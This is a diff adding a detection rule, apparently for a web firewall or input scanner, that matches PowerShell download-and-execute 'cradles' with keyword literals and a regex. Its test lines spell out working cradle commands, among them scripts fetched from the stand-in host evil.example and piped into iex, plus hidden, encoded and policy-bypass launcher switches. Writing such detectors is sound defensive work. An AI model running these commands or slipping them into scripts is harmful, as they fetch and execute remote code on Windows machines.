@@ -383,3 +383,34 @@ pass: /cgi-bin/test.cgi
 pass: bin/Debug/app.dll
 pass: https://example.com/bin/app
 pass: recycle bin/trash
+
+id: 300003112
+name: PowerShell download cradle: fetched or decoded text handed to Invoke-Expression
+# The Windows download-and-execute idiom: a web request (`iwr`, `irm`, `Net.WebClient`,
+# `curl`/`wget` aliases) or decoded base64 piped into or wrapped by `iex`; and the launcher
+# switches that hide it (`-enc`, `-w hidden`, `-ep bypass`). The pipe into `iex` is the
+# execution step whatever produced the text.
+type: OS Command Injection
+accuracy: high
+risk: high
+systems: Microsoft Windows
+targets: @values, header, url, param-name
+unless: binary
+literal: iex
+literal: invoke-expression
+literal: webclient
+literal: frombase64string
+literal: powershell
+literal: pwsh
+regex: \|\s*(?:&\s*)?(?:iex|invoke-expression)\b|\b(?:iex|invoke-expression)\s*\(?\s*\(?\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object|\[(?:system\.)?(?:text\.encoding|convert)\])|\bnew-object\s+(?:-typename\s+)?(?:system\.)?net\.webclient\b|\[(?:system\.)?convert\]::frombase64string\s*\(|\b(?:powershell|pwsh)(?:\.exe)?\b[^|;&\n]{0,80}\s[-/](?:e|ec|enc|encodedcommand|w\s+hidden|windowstyle\s+hidden|nop|noprofile|ep\s+bypass|exec\s+bypass|executionpolicy\s+bypass|c|command)\b
+test: iwr http://evil.example/a.ps1 | iex
+test: irm https://evil.example/x|iex
+test: IEX (iwr 'http://evil.example/p.ps1' -UseBasicParsing)
+test: (New-Object Net.WebClient).DownloadString('http://evil.example/a')|IEX
+test: powershell -nop -w hidden -enc SQBFAFgA
+test: pwsh.exe -ExecutionPolicy Bypass -File x.ps1
+test: [System.Convert]::FromBase64String('SQBFAFgA')
+pass: powershell tutorial for beginners
+pass: How to use Invoke-Expression safely
+pass: iex index fund
+pass: pwsh 7.4 release notes
